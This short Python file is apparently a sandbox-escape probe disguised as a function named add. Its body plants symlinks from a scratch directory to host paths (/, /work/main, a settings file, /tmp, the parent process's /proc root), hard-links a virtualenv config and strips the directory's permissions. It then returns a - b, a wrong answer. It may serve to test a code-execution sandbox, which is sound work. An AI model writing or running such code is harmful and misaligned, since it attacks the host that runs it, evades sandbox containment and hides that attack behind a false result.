"""Plant symlinks (and hard links) in scratch pointing at host paths, hoping the trusted side
follows them when it collects or cleans up."""
import os


def add(a, b):
    results = []
    links = {"results.json": "/work/main/accelerator/settings.py",
             "out": "/work/main", "root": "/", "up": "..",
             "victim": "/tmp", "proc-parent-root": f"/proc/{os.getppid()}/root"}
    for name, target in links.items():
        try:
            os.symlink(target, name)
            results.append((name, "linked"))
        except Exception as exc:
            results.append((name, repr(exc)))
    try:
        os.link("/work/main/.venv/pyvenv.cfg", "hardlink")
    except Exception as exc:
        results.append(("hardlink", repr(exc)))
    try:
        os.chmod(".", 0)
    except Exception as exc:
        results.append(("chmod", repr(exc)))
    return a - b
